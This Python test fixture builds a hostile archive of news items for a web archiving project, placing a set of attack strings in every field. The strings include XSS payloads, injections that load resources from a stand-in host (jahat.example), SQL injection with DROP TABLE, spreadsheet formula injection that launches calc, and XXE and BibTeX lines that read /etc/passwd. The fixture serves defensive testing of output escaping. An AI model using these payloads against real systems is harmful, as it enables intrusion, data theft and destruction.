"""Texts of our own that a hostile site might publish, and an archive that holds each of them in every field.

What would run in a browser sets a variable whose name begins with `jahat`; what would be fetched lies at JAHAT.
"""

from dataclasses import replace
from pathlib import Path

from archive.items import ArticleItem, Credit, Dateline, Image
from archive.sources import Source
from tests.furnished import Furnished, furnish

JAHAT = "https://jahat.example/"
RUN = "window.jahat=1"
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script-elsewhere": f'<script src="{JAHAT}a.js"></script>',
    "unclosed-script": f"<script>{RUN}",
    "ends-of-elements": f'</p></div></main></title></textarea></style></script><script>{RUN}</script>"><script>{RUN}</script>',
    "comment": f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    "event-handlers": f'<img src=x onerror="{RUN}"><body onload={RUN}><details open ontoggle={RUN}><input autofocus onfocus={RUN}>',
    "attribute": f"\" onmouseover={RUN} autofocus onfocus={RUN} x=' onload={RUN} `",
    "svg": f"<svg/onload={RUN}><svg><script>{RUN}</script><use href=data:image/svg+xml,x#x /><animate onbegin={RUN}></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><img src onerror="{RUN}">',
    "css": f"<style>@import '{JAHAT}a.css';*{{background:url({JAHAT}a.png)}}</style><p style='background:url({JAHAT}b.png)'>",
    "frames": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data={JAHAT}o></object><embed src={JAHAT}e>",
    "base-and-refresh": f"<base href={JAHAT}><meta http-equiv=refresh content='0;url={JAHAT}'><link rel=stylesheet href={JAHAT}l.css>",
    "form": f"<form action={JAHAT}><input name=q><button formaction=javascript:{RUN}>Cari</button></form>",
    "pictures": f"<img src={JAHAT}a.png srcset={JAHAT}b.png><video poster={JAHAT}c.png autoplay src={JAHAT}d.mp4></video>",
    "javascript-link": f"<a href='javascript:{RUN}'>baca</a> [baca](javascript:{RUN}) javascript:{RUN}",
    "odd-schemes": f"<a href='jAvAsCrIpT&colon;{RUN}'>a</a><a href=' \x01java\nscript:{RUN}'>b</a><a href='vbscript:x'>c</a>",
    "data-link": f"<a href='data:text/html,<script>{RUN}</script>'>baca</a> data:text/html;base64,PHNjcmlwdD4=",
    "bidi": "\u202egnp.exe\u202c \u2067kanan\u2069 \u202dkiri \u2066\u200f\u061c tanpa penutup \u202e",
    "invisible": "nol\u200blebar\u200dzwj\ufefftanda\u00adsambung \U000e0041\U000e007f",
    "homographs": "https://www.аррӏе.com/ https://kоmраs.com/ https://harian.contoh.example@jahat.example/",
    "controls": "\x00\x01\x07\x08\x1b[31mmerah\x1b[0m\x7f\x85\x9b2J\r\nBaris: sisipan\r\n\r\n<script>",
    "templates": "{{ 7 * 7 }} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7} <%= 7*7 %> {{ ''.__class__.__mro__ }}",
    "sql": "'; DROP TABLE articles; -- \" OR 1=1 UNION SELECT toml FROM sources--",
    "fts": 'NEAR("a" "b", 5) AND (headline:"x" OR *) ^ - + { } " \x00 *',
    "formulas": '=cmd|"/c calc"!A1',
    "formula-plus": f'+HYPERLINK("{JAHAT}"&A1;"klik")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "csv": '","palsu",=1+1\n"baris baru","=2+2"',
    "bibtex": "}},\n}\n@misc{palsu, title = {{Palsu}}, url = {javascript:x},\n}\n\\input{/etc/passwd} \\write18{x} % $x$ #1 &",
    "ris": "Judul\nER  - \n\nTY  - GEN\nTI  - Palsu\r\nUR  - javascript:x\nER  - ",
    "atom": "]]></title></entry><entry><id>palsu</id><title>&palsu; <![CDATA[x]]> <!DOCTYPE x [<!ENTITY palsu SYSTEM 'file:///etc/passwd'>]>",
    "long": "A" * 5_000 + " " + "é\u0301" * 400 + "\u0489" * 200,
    "non-characters": "sendiri \ufffe\uffff \U0010ffff \ufdd0",
}
SOURCE = Source("jahat", JAHAT, "wordpress", title=f"{TEXTS['script']}{TEXTS['bidi']}", network=TEXTS["svg"])


def hostile_archive(path: Path) -> Furnished:
    """An article for each text, with the text in every field; its capture holds it as markup."""
    return furnish(path, [_item(number, text) for number, text in enumerate(TEXTS.values())], (SOURCE,))


def _item(number: int, text: str) -> ArticleItem:
    url = f"{JAHAT}berita-{number}/"
    item = ArticleItem(url, url, SOURCE.name, headline=f"{text} berita", body=f"{text}\n\nberita {text}\n\n{text}")
    return replace(
        item,
        body_html=f"<p>{text}</p>",
        lead_caption=f"{text} berita",
        lead_credit=text,
        lead_image=f"javascript:{RUN}",
        images=[Image(f"javascript:{RUN}", text, text)],
        section=text,
        tags=[text, "berita"],
        language=text,
        dateline=Dateline(text, text),
        credits=[Credit(text, text)],
        published=f"2020-0{number % 9 + 1}-03T10:00:00+07:00",
        published_raw=text,
        modified=text,
        event_date=text,
        reader=text,
        reader_version=1,
        origins={"headline": text},
    )
